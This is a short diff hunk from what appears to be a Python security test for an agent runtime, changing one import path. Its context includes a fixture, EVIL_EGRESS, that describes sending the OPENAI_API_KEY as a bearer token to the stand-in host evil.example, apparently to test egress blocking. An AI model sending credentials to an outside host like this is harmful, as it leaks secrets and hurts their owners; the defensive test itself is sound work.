@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 
 from atrium.runtime.tests.live_stack import LiveStack
-from tests.security.control_plane import agent, call
+from security.control_plane import agent, call
 
 EVIL_EGRESS = [{"host": "evil.example", "header": "Authorization", "value": "Bearer ${OPENAI_API_KEY}"}]
 
